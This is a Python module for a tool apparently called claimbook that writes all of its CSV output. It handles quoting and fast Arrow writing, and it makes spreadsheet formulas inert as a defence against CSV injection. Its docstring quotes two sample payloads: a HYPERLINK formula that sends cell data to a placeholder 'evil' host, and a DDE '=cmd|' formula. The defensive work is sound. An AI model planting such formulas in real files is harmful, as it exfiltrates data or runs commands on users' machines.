"""The one CSV writer: every CSV claimbook writes goes through this module.

Tables and appends (`write`), the review and rejects files, `claims --format csv`, a report's
`selection.csv` and `export --format csv`: each reads back into the same cells (a line break
inside a cell - LF, CR or CRLF - is quoted), and files meant for people have formulas made inert.

Claim text, claimant names and quotes come from sources nobody controls. A cell that starts with
`=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip before looking)
is read by Excel, LibreOffice and Google Sheets as a formula — `=HYPERLINK("https://evil/?"&A1)`
leaks data, `=cmd|'/c calc'!A0` ran programs in old Excel. Following the OWASP guidance on CSV
injection, every such cell is prefixed with an apostrophe: the spreadsheet then shows the text,
and a reader of the CSV sees one extra character at the start of those cells only.

claimbook writes CSV through `rows_text` / `to_csv_text` (`writer` / `DictWriter` row by row;
a frame of text by Arrow compute instead, `arrow_rows`, byte for byte the same rows at C speed,
which is how a million imported rows are appended), with formulas neutralized
(`rows_text(..., neutralize=True)`, `neutralize_formulas(df)`) in every file written for people
to open (`claimbook claims --format csv`, a rejects file). Tables
claimbook reads back itself (claims.csv) are not neutralized: they hold the analyst's own text,
and it would change the stored value. A million-row selection is written by pyarrow's CSV
writer instead (`write_arrow_csv`: a byte-order mark, formulas always neutralized, at C speed);
`tests/store/test_csv_write.py` checks that both writers quote line breaks and neutralize
formulas alike, and that `arrow_rows` writes exactly the bytes of the csv module.

`writer(f, ...)` / `DictWriter` fix a quirk of Python's csv writer (3.11): with lines ending in
"\n" it leaves a cell holding a bare carriage return ("a\rb") unquoted, and every reader —
pandas, the csv module, spreadsheets — then splits the row there. A row with such a cell is
written with every cell quoted; all other rows stay minimally quoted, byte for byte as before.
"""

from __future__ import annotations

import contextlib
import csv
import io
import itertools
from collections.abc import Callable, Iterable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, BinaryIO

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pcsv

from claimbook.store.typed import holding, holds_any, string_bytes

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CHUNK = 65_536  # rows of a DataFrame turned into Python lists at a time (memory stays bounded)
SLICE = 65_536  # rows of an Arrow table converted and written at a time
WRITE_SLICE = 32_768  # rows `write_arrow_csv` takes in order and cleans at a time (two threads)


def neutralize_cell(value: Any) -> Any:
    """`'=1+1` for `=1+1`; any other value (numbers, missing values, plain text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralize_reversibly(value: str) -> str:
    """`neutralize_cell` for a file claimbook reads back (the review file): a value that already
    starts with an apostrophe and a formula character gets one more, so `restore_cell` gives
    back exactly the value written."""
    if value.startswith(FORMULA_STARTS) or (value.startswith("'") and _restorable(value)):
        return "'" + value
    return value


def restore_cell(value: str) -> str:
    """The value `neutralize_reversibly` was given (an apostrophe a spreadsheet kept is dropped)."""
    return value[1:] if _restorable(value) else value


def _restorable(value: str) -> bool:
    rest = value[1:]
    return value.startswith("'") and (rest.startswith(FORMULA_STARTS)
                                      or (rest.startswith("'") and _restorable(rest)))


def neutralize_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of `df` in which every text cell a spreadsheet would evaluate is plain text.

    Only text cells change (numbers such as -3 stay numbers: a spreadsheet reads them as the
    number they are); column names are neutralized too, since they become the header row.
    """
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s) or isinstance(
                s.dtype, pd.CategoricalDtype):
            out[col] = s.astype(object).map(neutralize_cell)
    out.columns = [neutralize_cell(c) for c in out.columns]
    return out


def _needs_quotes(values: Iterable[Any]) -> bool:
    return any(isinstance(v, str) and "\r" in v for v in values)


class _Writer:
    """csv.writer with QUOTE_MINIMAL, except rows holding a carriage return: QUOTE_ALL."""

    def __init__(self, f: Any, **kwargs: Any) -> None:
        kwargs.setdefault("lineterminator", "\n")
        self._minimal = csv.writer(f, quoting=csv.QUOTE_MINIMAL, **kwargs)
        self._all = csv.writer(f, quoting=csv.QUOTE_ALL, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        row = list(row)
        return (self._all if _needs_quotes(row) else self._minimal).writerow(row)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    def writeruns(self, rows: Iterable[Iterable[Any]], carriage: Iterable[bool]) -> None:
        """`writerows` when it is known which rows hold a carriage return (`carriage`, one
        flag per row): each run of rows is written at C speed."""
        for quoted, run in itertools.groupby(zip(carriage, rows, strict=True), key=_first):
            (self._all if quoted else self._minimal).writerows(row for _, row in run)


def _first(pair: tuple[Any, Any]) -> Any:
    return pair[0]


def writer(f: Any, **kwargs: Any) -> _Writer:
    """Like `csv.writer(f, lineterminator="\n")`, and a cell with a carriage return survives."""
    return _Writer(f, **kwargs)


class DictWriter(csv.DictWriter):
    """Like `csv.DictWriter(f, fieldnames, lineterminator="\n")`, with `writer`'s quoting."""

    def __init__(self, f: Any, fieldnames: list[str], **kwargs: Any) -> None:
        extras = {k: kwargs.pop(k) for k in ("restval", "extrasaction") if k in kwargs}
        super().__init__(f, fieldnames, **extras)
        self.writer = _Writer(f, **kwargs)  # csv.DictWriter writes through self.writer


def rows_text(rows: Iterable[Iterable[Any]], *, neutralize: bool = False) -> str:
    """Rows (the header first) as CSV text: the one way claimbook writes CSV.

    "\n" line ends and minimal quoting, except that a row with a carriage return in a cell
    is fully quoted (see `writer`), so every cell reads back as it was. `neutralize` makes
    formulas inert (`neutralize_cell`), for files meant for people to open in a spreadsheet
    (a rejects file, a listing); tables claimbook reads back keep their text exactly.
    """
    buf = io.StringIO()
    w = writer(buf)
    for row in rows:
        cells = ["" if _missing(v) else v for v in row]
        w.writerow([neutralize_cell(v) for v in cells] if neutralize else cells)
    return buf.getvalue()


def to_csv_text(df: pd.DataFrame) -> str:
    """A DataFrame as CSV text (no index) that reads back into the same cells: `rows_text`, a
    whole table at a time (a header, then `csv_rows`). For people, pass
    `neutralize_formulas(df)`."""
    return rows_text([[str(c) for c in df.columns]]) + csv_rows(df).decode("utf-8")


def csv_rows(df: pd.DataFrame) -> bytes:
    """The rows of `to_csv_text(df)` without its header, as UTF-8: a frame of text by Arrow
    (`arrow_rows`, a million rows in about a second), any other frame row by row."""
    if (rows := arrow_rows(df)) is not None:
        return rows
    frame = df.astype(object).where(df.notna(), "") if df.isna().any(axis=None) else df
    carriage = np.zeros(len(frame), dtype=bool)
    for col in range(frame.shape[1]):
        carriage |= frame.iloc[:, col].astype(str).str.contains("\r", regex=False).to_numpy()
    buf = io.StringIO()
    w = writer(buf)
    for first in range(0, len(frame), CHUNK):
        w.writeruns(frame.iloc[first:first + CHUNK].to_numpy().tolist(),
                    carriage[first:first + CHUNK])
    return buf.getvalue().encode("utf-8")


def arrow_rows(df: pd.DataFrame) -> bytes | None:
    """The rows `writer` writes for a frame whose every column is text (a missing cell is
    empty), as UTF-8, built with Arrow compute a slice at a time; None for a frame with other
    values (numbers, lists, ...), which the csv module writes.

    As Python's csv writer with QUOTE_MINIMAL: a cell is quoted (its quotes doubled) when it
    holds a comma, a quote or a line feed, and a row of one empty cell is `""`; a row holding a
    carriage return has every cell quoted (see `writer`)."""
    if df.shape[1] == 0 or not all(pd.api.types.is_string_dtype(t) for t in df.dtypes):
        return None
    try:
        columns = [pa.array(df.iloc[:, i], type=pa.string(), from_pandas=True)
                   for i in range(df.shape[1])]
    except (pa.ArrowInvalid, pa.ArrowTypeError):  # numbers, lists, ...: the csv module's text
        return None
    columns = [c.combine_chunks() if isinstance(c, pa.ChunkedArray) else c for c in columns]

    def quoted(arr: pa.Array) -> pa.Array:
        return pc.binary_join_element_wise('"', pc.replace_substring(arr, '"', '""'), '"', "")

    def minimal(arr: pa.Array) -> pa.Array:
        if len(columns) > 1 and not holds_any(arr, b'",\n'):  # most columns: a look at bytes
            return arr
        need = holding(arr, b'",\n')
        if len(columns) == 1:
            need |= pc.equal(arr, "").to_numpy(zero_copy_only=False)
        if not need.any():
            return arr
        if need.all():  # claim text and attributes: every cell holds a quote or a comma
            return quoted(arr)
        mask = pa.array(need)
        return pc.replace_with_mask(arr, mask, quoted(pc.filter(arr, mask)))

    out = []
    for first in range(0, len(df), SLICE):
        part = [c.slice(first, SLICE).fill_null("") for c in columns]
        lines = pc.binary_join_element_wise(*(minimal(c) for c in part), ",")
        if holds_any(lines, b"\r"):  # a line holds what its cells hold
            carriage = holding(lines, b"\r")
            mask = pa.array(carriage)
            lines = pc.replace_with_mask(lines, mask, pc.binary_join_element_wise(
                *(quoted(pc.filter(c, mask)) for c in part), ","))
        lines = pc.binary_join_element_wise(lines, "\n", "")
        out.append(string_bytes(lines).tobytes())
    return b"".join(out)


def _missing(v: Any) -> bool:
    if isinstance(v, str):
        return False
    try:
        return bool(pd.isna(v))
    except (TypeError, ValueError):
        return False


@contextlib.contextmanager
def by_column() -> Iterator[Callable[[Callable[[Any], Any], Sequence[Any]], list[Any]]]:
    """`each(work, columns)` = `[work(c) for c in columns]`, the columns worked on two threads:
    pyarrow runs one column's kernel (a take, a cast) on one core, and releases the
    interpreter's lock while it does."""
    with ThreadPoolExecutor(2, thread_name_prefix="claimbook-columns") as pool:
        yield lambda work, columns: list(pool.map(work, columns))


def write_arrow_csv(table: pa.Table, sink: str | Path | BinaryIO,
                    rows: np.ndarray | None = None) -> None:
    """An Arrow table of text as CSV for spreadsheets: a byte-order mark, a cell quoted where
    needed, an empty cell empty, and a cell a spreadsheet would evaluate prefixed with an
    apostrophe (as `neutralize_cell`).

    Written a slice at a time (`rows`: the row order, default as stored), so memory holds the
    table and one slice, not a second copy of everything."""
    # a cell is risky when its first byte is one of FORMULA_STARTS (all ASCII, so the first
    # byte is the first character): a slice and a lookup, not a regular expression per cell
    starts = pa.array([c.encode() for c in FORMULA_STARTS], pa.binary())
    schema_ = pa.schema([(name, pa.string()) for name in table.column_names])
    n = table.num_rows

    def cleaned_column(arr: Any) -> Any:
        arr = pc.cast(arr, pa.string())
        risky = pc.is_in(pc.binary_slice(pc.cast(arr, pa.binary()), 0, 1), value_set=starts)
        if pc.any(risky).as_py():  # most columns of most slices have none: no copy
            arr = pc.if_else(risky, pc.binary_join_element_wise("'", arr, ""), arr)
        return pc.if_else(pc.equal(arr, ""), pa.scalar(None, pa.string()), arr)

    def write(f: BinaryIO) -> None:
        f.write("\ufeff".encode())
        with pcsv.CSVWriter(f, schema_, write_options=pcsv.WriteOptions(
                quoting_style="needed")) as writer, by_column() as each:
            for first in range(0, max(n, 1), WRITE_SLICE):
                if rows is None:
                    part = table.slice(first, WRITE_SLICE)
                    columns = each(cleaned_column, part.columns)
                else:
                    order = pa.array(rows[first:first + WRITE_SLICE])
                    columns = each(lambda c, i=order: cleaned_column(pc.take(c, i)),
                                   table.columns)
                if columns and len(columns[0]):
                    writer.write_table(pa.table(columns, schema=schema_))

    if isinstance(sink, (str, Path)):
        with open(sink, "wb") as f:
            write(f)
    else:
        write(sink)
